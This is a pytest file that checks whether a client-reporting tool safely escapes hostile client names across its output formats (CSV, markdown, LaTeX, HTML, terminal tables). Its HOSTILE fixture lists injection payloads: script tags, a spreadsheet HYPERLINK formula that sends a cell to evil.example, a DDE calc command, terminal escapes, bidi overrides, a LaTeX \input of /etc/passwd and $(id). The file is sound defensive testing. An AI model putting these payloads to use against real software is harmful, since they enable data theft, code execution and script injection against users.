"""Formats: their names, and what names of clients may do in them, which is nothing."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess

import pytest
from tabulate import tabulate_formats
from wcwidth import wcswidth

from clientfit_sync.render import FORMATS

Run = Callable[..., CompletedProcess[str]]

PERIOD = ("--period", "2026-08-01..2026-10-31", "--as-of", "2026-11-23")
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "entity": "Fish &amp; Chips &lt;Ltd&gt;",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "newline": "Two\nLines",
    "return": "Back\rBehind",
    "both": "Two\r\nLines",
    "tab": "Tab\tbed",
    "separators": "Line\u2028and\u2029page\x0b\x0c\x85end",
    "escape": "\x1b[31mRed\x1b[0m",
    "title": "\x1b]0;owned\x07Title",
    "csi": "\x9b31mCSI",
    "bell": "Bell\x07 and back\x08space",
    "bidi": "\u202eevil\u202c",
    "zero": "Zero\u200bwidth\ufeff",
    "long": "Long " + "x" * 295,
    "cyrillic": "Студио „Ябълка“ ООД",
    "wide": "株式会社テスト",
    "emoji": "Studio 👩‍💻 Ltd",
    "number": "007",
    "float": "1e5",
    "nan": "nan",
    "infinity": "inf",
    "true": "TRUE",
    "pipe": "A | B || C",
    "link": "[click](javascript:alert(1))",
    "picture": "![x](http://evil.example/x.png)",
    "backtick": "`rm -rf`",
    "stars": "**bold** _under_ ~~gone~~",
    "latex": r"\input{/etc/passwd} $x^2$ 100% #1 A_B",
    "percent": "100 % & more",
    "rst": "`x <javascript:alert(1)>`_ |sub| *emph*",
    "wiki": "[[File:x.png]] {{template}} '''bold'''",
    "quote": 'Say "hi", friend; it\'s',
    "backslash": r"C:\new\table",
    "brace": "{0} %s ${HOME} $(id)",
    "heading": "# Heading",
    "comma": "Smith, Jones",
}
ORDER = list(HOSTILE)
CONTROLS = {chr(code) for code in [*range(32), *range(127, 160)]} - {"\n"}
UNSEEN = {*"\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"}


@pytest.fixture(scope="module")
def texts() -> dict[tuple[str, ...], str]:
    """What was shown so far: no report is made twice."""
    return {}


@pytest.fixture
def shown(hostile: Path, run: Run, texts: dict[tuple[str, ...], str]) -> Callable[..., str]:
    """The report on them in a format."""

    def report(*arguments: str) -> str:
        if arguments not in texts:
            done = run("report", "--config", hostile, "--format", *arguments, *PERIOD)
            assert done.returncode == 0, done.stderr
            texts[arguments] = done.stdout
        return texts[arguments]

    return report


@pytest.fixture(scope="module")
def hostile(import_studio: Callable[..., Path]) -> Path:
    """The configuration of a studio with such clients, projects, tasks and people; the first has the most hours."""
    names = list(enumerate(HOSTILE.values()))
    hours = [
        (name, "2026-08-03", 5 + (len(ORDER) - number) / 60, 2, {"Project": name, "Task": name, "User": name})
        for number, name in names
    ]
    invoices = [(str(number), name, "2026-11-02", "100", "2026-08-01", "2026-10-31") for number, name in names]
    return import_studio(hours, invoices) / "clientfit.toml"


def test_the_formats_that_the_contract_names_are_there() -> None:
    assert set(FORMATS) >= {"table", "json", "csv", "markdown", "github", "grid", "tsv", "latex", "simple"}


def test_formats_of_tabulate_that_do_not_escape_are_left_out() -> None:
    assert not set(FORMATS) & {"unsafehtml", "latex_raw"}


def test_every_other_format_is_one_of_tabulates() -> None:
    assert set(FORMATS) - {"table", "json", "csv", "markdown", "html"} <= set(tabulate_formats)


@pytest.mark.parametrize("format_", FORMATS)
def test_no_control_character_gets_through(shown: Callable[..., str], format_: str) -> None:
    text = shown(format_)
    allowed = {"\t"} if format_ == "tsv" else {"\r"} if format_ == "csv" else set()
    found = set(text) & (CONTROLS - allowed)
    assert not found, sorted(found)


@pytest.mark.parametrize("format_", [name for name in FORMATS if name != "json"])
def test_nothing_turns_the_direction_or_breaks_the_line_unseen(shown: Callable[..., str], format_: str) -> None:
    assert not set(shown(format_)) & UNSEEN


@pytest.mark.parametrize("format_", FORMATS)
def test_letters_of_every_script_stay(shown: Callable[..., str], format_: str) -> None:
    text = shown(format_)
    assert "Ябълка" in text
    assert "株式会社テスト" in text


@pytest.mark.parametrize("format_", FORMATS)
def test_a_name_that_looks_like_a_number_stays_what_it_is(shown: Callable[..., str], format_: str) -> None:
    text = shown(format_)
    for name in ("007", "1e5", "nan", "inf", "TRUE"):
        assert name in text, name
    assert "100000" not in text.replace(" ", "")


@pytest.mark.parametrize(
    "format_",
    [name for name in FORMATS if name in ("markdown", "github", "pipe", "html", "mediawiki", "textile", "moinmoin")],
)
def test_no_name_becomes_markup_where_html_is_let_through(shown: Callable[..., str], format_: str) -> None:
    text = shown(format_)
    assert "<script" not in text
    assert "<img" not in text


@pytest.mark.parametrize("format_", [name for name in FORMATS if name in ("markdown", "github", "pipe")])
def test_no_name_becomes_a_link_or_a_picture_in_markdown(shown: Callable[..., str], format_: str) -> None:
    text = shown(format_)
    assert "](javascript:" not in text.replace("\\]", "").replace("\\[", "")
    assert "![x](http" not in text


def tables_of(text: str) -> list[list[str]]:
    """The runs of lines that begin with a bar."""
    found: list[list[str]] = []
    for line, before in zip(text.splitlines(), ["", *text.splitlines()], strict=False):
        if line.startswith("|"):
            if not before.startswith("|"):
                found.append([])
            found[-1].append(line)
    return found


@pytest.mark.parametrize("format_", [name for name in FORMATS if name in ("markdown", "github", "pipe")])
def test_every_row_of_a_table_has_the_columns_of_its_head(shown: Callable[..., str], format_: str) -> None:
    tables = tables_of(shown(format_))
    assert tables
    for table in tables:
        assert len({line.replace("\\|", "").count("|") for line in table}) == 1
    rows = [line for line in tables[0][2:] if "All clients" not in line]
    assert len(rows) == len(HOSTILE), "a name with a line break is one row"


@pytest.mark.parametrize("format_", [name for name in FORMATS if name.startswith("latex")])
def test_no_name_becomes_a_command_in_latex(shown: Callable[..., str], format_: str) -> None:
    text = shown(format_)
    assert "\\input" not in text
    assert "{\\etc" not in text
    assert "$x^2$" not in text


@pytest.mark.parametrize("format_", [name for name in ("csv", "tsv") if name in FORMATS])
def test_no_cell_that_is_text_begins_like_a_formula(shown: Callable[..., str], format_: str) -> None:
    text = shown(format_)
    rows = list(csv.reader(io.StringIO(text))) if format_ == "csv" else [line.split("\t") for line in text.splitlines()]
    assert len({len(row) for row in rows}) == 1
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for cell in row:
            if not is_number(cell.strip()):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def is_number(cell: str) -> bool:
    """Whether it is a number and no text."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_keeps_names_that_do_no_harm_as_they_are(shown: Callable[..., str]) -> None:
    names = [row["client"] for row in csv.DictReader(io.StringIO(shown("csv")))]
    for key in ("script", "long", "cyrillic", "wide", "number", "float", "nan", "pipe", "quote", "backslash", "comma"):
        assert names[ORDER.index(key)] == HOSTILE[key]


def test_a_name_that_looks_like_a_negative_number_is_text_in_csv(
    studio: Path, cli: Run, write_hours: Callable[..., Path], write_invoices: Callable[..., Path]
) -> None:
    assert studio.is_dir()
    write_hours([("-2", "2026-08-03", 5, 1), ("+3", "2026-08-03", 4, 1)])
    write_invoices([("1", "-2", "2026-11-02", "100", "2026-08-01", "2026-10-31")])
    assert cli("sync").returncode == 0
    for format_ in ("csv", "tsv"):
        text = cli("report", "--format", format_, *PERIOD).stdout
        cells = [line.replace("\t", ",").split(",")[0] for line in text.splitlines()[1:]]
        assert not [cell for cell in cells if cell.startswith(("-", "+"))], format_


def test_a_negative_number_in_csv_stays_a_number(
    studio: Path, cli: Run, write_hours: Callable[..., Path], write_invoices: Callable[..., Path]
) -> None:
    """A credit: -250 on its day."""
    assert studio.is_dir()
    write_hours([("Bright", "2026-08-03", 5, 1)])
    rows = [("1", "Bright", "2026-08-10", "50", "2026-08-01", "2026-08-10")]
    write_invoices([*rows, ("2", "Bright", "2026-09-10", "-300", "", "")])
    assert cli("sync").returncode == 0
    (row,) = csv.DictReader(io.StringIO(cli("report", "--format", "csv", *PERIOD).stdout))
    assert row["pay"] == "-250.00"


def test_json_names_clients_in_full(shown: Callable[..., str]) -> None:
    text = shown("json")
    names = [client["client"] for client in json.loads(text)["clients"]]
    assert len(names) == len(HOSTILE)
    for key in ("script", "formula", "long", "cyrillic", "wide", "emoji", "number", "float", "pipe", "latex", "quote"):
        assert names[ORDER.index(key)] == HOSTILE[key]


def test_the_table_fits_eighty_columns_whatever_the_names(shown: Callable[..., str]) -> None:
    for line in shown("table").splitlines():
        assert 0 <= wcswidth(line) <= 80, line


def test_the_breakdown_of_the_table_fits_eighty_columns_too(shown: Callable[..., str]) -> None:
    for line in shown("table", "--by", "project").splitlines():
        assert 0 <= wcswidth(line) <= 80, line


def test_one_client_with_a_line_break_takes_one_row_of_the_table(shown: Callable[..., str]) -> None:
    text = shown("table")
    assert "\nLines" not in text
    assert "\nBehind" not in text


def test_the_list_of_clients_is_harmless(hostile: Path, run: Run) -> None:
    text = run("clients", "--config", hostile).stdout
    assert not set(text) & (CONTROLS | UNSEEN)
    assert "007" in text
    assert "1e5" in text


def test_the_list_of_clients_fits_eighty_columns(hostile: Path, run: Run) -> None:
    for line in run("clients", "--config", hostile).stdout.splitlines():
        assert wcswidth(line) <= 80, line


def test_messages_are_harmless(hostile: Path, run: Run) -> None:
    for arguments in (PERIOD, ("--client", "\x1b[31mRed\u202e"), ("--period", "\x1b[31m"), ("--format", "\x1b[31m")):
        told = run("report", "--config", hostile, *arguments).stderr
        assert not set(told) & (CONTROLS | UNSEEN)


@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("by", ["project", "task", "person"])
def test_projects_tasks_and_people_are_harmless_too(shown: Callable[..., str], by: str, format_: str) -> None:
    text = shown(format_, "--by", by)
    assert not set(text) & {"\x1b", "\x9b", "\x07", "\r"} - ({"\r"} if format_ == "csv" else set())
    if format_ in ("markdown", "github", "pipe", "html"):
        assert "<script" not in text
